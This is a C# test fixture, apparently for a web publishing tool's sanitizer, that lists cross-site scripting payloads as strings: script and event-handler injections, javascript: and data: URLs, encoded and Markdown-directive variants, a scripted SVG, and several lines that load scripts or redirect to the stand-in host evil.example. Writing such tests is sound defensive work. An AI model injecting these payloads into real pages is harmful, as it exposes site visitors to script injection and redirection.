namespace PreventPublic.Tests.Hostile;

/// <summary>Words that would run, or send a reader elsewhere, if a page took them for HTML.</summary>
public static class HostileText
{
    /// <summary>Run or break out as they stand, in an element's content or in an attribute's value.</summary>
    public static readonly IReadOnlyList<string> Html =
    [
        "<script>alert(1)</script>",
        "<ScRiPt src=//evil.example/x.js></sCrIpT>",
        "<img src=x onerror=alert(1)>",
        "<img/src=x/onerror=alert(1)//",
        "<svg onload=alert(1)>",
        "<svg><script>alert(1)</script></svg>",
        "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
        "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
        "<body onload=alert(1)>",
        "<iframe src=javascript:alert(1)></iframe>",
        "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
        "<object data=javascript:alert(1)></object>",
        "<embed src=javascript:alert(1)>",
        "<a href=javascript:alert(1)>x</a>",
        "<a href=\"java&#10;script:alert(1)\">x</a>",
        "<form action=javascript:alert(1)><button>x</button></form>",
        "<button formaction=javascript:alert(1)>x</button>",
        "<base href=//evil.example/>",
        "<meta http-equiv=refresh content='0;url=//evil.example'>",
        "<link rel=stylesheet href=//evil.example/x.css>",
        "<style>@import '//evil.example/x.css';</style>",
        "<p style=\"background:url(//evil.example/x)\">x</p>",
        "<details open ontoggle=alert(1)>",
        "<video><source onerror=alert(1)></video>",
        "<input autofocus onfocus=alert(1)>",
        "\"><script>alert(1)</script>",
        "'><img src=x onerror=alert(1)>",
        "\" onmouseover=\"alert(1)",
        "\" autofocus onfocus=alert(1) x=\"",
        "</title><script>alert(1)</script>",
        "</textarea><script>alert(1)</script>",
        "</script><script>alert(1)</script>",
        "--><script>alert(1)</script>",
        "]]><script>alert(1)</script>",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
        "<template><script>alert(1)</script></template>",
        "\u202E<script>alert(1)</script>",
    ];

    /// <summary>Hostile only once something decodes, completes or fills them.</summary>
    public static readonly IReadOnlyList<string> Indirect =
    [
        "&lt;script&gt;alert(1)&lt;/script&gt;",
        "&#60;script&#62;alert(1)&#60;/script&#62;",
        "&#x3c;img src=x onerror=alert(1)&#x3e;",
        "{{council}}<script>alert(1)</script>",
        "{{name:<script>alert(1)</script>}}",
        "{{\"onmouseover=alert(1)}}",
        "${alert(1)}",
        "{0}{1}<script>",
        "%3Cscript%3Ealert(1)%3C/script%3E",
        "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
        "@Html.Raw(\"<script>\")",
        "javascript:alert(1)",
    ];

    /// <summary>What Markdown makes links, pictures, attributes and components of.</summary>
    public static readonly IReadOnlyList<string> Markdown =
    [
        "[x](javascript:alert(1))",
        "[x](JaVaScRiPt:alert(1))",
        "[x](java\tscript:alert(1))",
        "[x](&#106;avascript:alert(1))",
        "[x](&#x6A;avascript&colon;alert&lpar;1&rpar;)",
        "[x](%6Aavascript:alert(1))",
        "[x]( javascript:alert(1) \"title\")",
        "[x](vbscript:msgbox(1))",
        "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
        "[x](//evil.example/)",
        "[x](/\\evil.example/)",
        "[x](\\\\evil.example/)",
        "[x](https://user:password@evil.example/)",
        "[x](/worried\" onmouseover=\"alert(1))",
        "[x](</worried\" onmouseover=\"alert(1)>)",
        "[x](/worried \"title\" onmouseover=alert(1))",
        "[x][y]\n\n[y]: javascript:alert(1) \"title\"",
        "[x]\n\n[x]: data:text/html,<script>alert(1)</script>",
        "<javascript:alert(1)>",
        "<data:text/html,alert>",
        "<someone@example.org\"onmouseover=\"alert(1)>",
        "![x](javascript:alert(1))",
        "![x\" onerror=\"alert(1)](media/drawing.svg)",
        "![<script>alert(1)</script>](media/drawing.svg)",
        "![x](x\" onerror=\"alert(1))",
        "**bold**{onclick=alert(1)}",
        "*em*{style=\"background:url(//evil.example)\"}",
        "`code`{onclick=alert(1)}",
        "[x](/worried){onclick=alert(1) target=_blank}",
        "![x](media/drawing.svg){onload=alert(1)}",
        "## Heading {#one onclick=alert(1)}",
        "## Heading {#\"><script>alert(1)</script>}",
        "{onclick=alert(1)}\nA paragraph.",
        "A paragraph. {onclick=alert(1)}",
        "> A quotation {onclick=alert(1)}",
        "- An item {onclick=alert(1)}",
        "* * * {onclick=alert(1)}",
        "```js {onclick=alert(1)}\nalert(1)\n```",
        "```\"><script>alert(1)</script>\ncode\n```",
        "    <script>alert(1)</script>",
        "| <script>alert(1)</script> | b |\n|---|---|\n| <img src=x onerror=alert(1)> | c |",
        ":::details <script>alert(1)</script>\nText.\n:::",
        ":::details \" onclick=\"alert(1)\nText.\n:::",
        ":::audience \"><script>alert(1)</script>\nText.\n:::",
        ":::lang \"><script>alert(1)</script>\nText.\n:::",
        ":::archive <img src=x onerror=alert(1)>\nText.\n:::",
        ":::\"><script>alert(1)</script>\nText.\n:::",
        ":::callout {onclick=alert(1)}\nText.\n:::",
        ":::warning\n<script>alert(1)</script>\n:::",
        ":::links\n- <script>alert(1)</script>\n:::",
        ":::contact <script>alert(1)</script>",
        ":::contacts \"><script>alert(1)</script>",
        ":::video javascript:alert(1) Film",
        ":::video https://example.org/\"onmouseover=\"alert(1) Film <script>alert(1)</script>",
        ":::download media/drawing.svg <script>alert(1)</script>",
        ":::download \"><script>alert(1)</script> x",
        "{{phone:\"><script>alert(1)</script>}}",
        "{{<script>alert(1)</script>}}",
    ];

    /// <summary>Words of a front matter, and of bodies.</summary>
    public static readonly IReadOnlyList<string> Values = [.. Html, .. Indirect];

    public static readonly IReadOnlyList<string> Bodies = [.. Html, .. Indirect, .. Markdown];

    /// <summary>A picture that is a program too.</summary>
    public const string Drawing = """
        <svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" onload="alert(1)">
          <script>alert(document.domain)</script><a xlink:href="javascript:alert(1)"><text y="20">x</text></a>
          <foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="javascript:alert(1)"/></foreignObject>
        </svg>
        """;
}
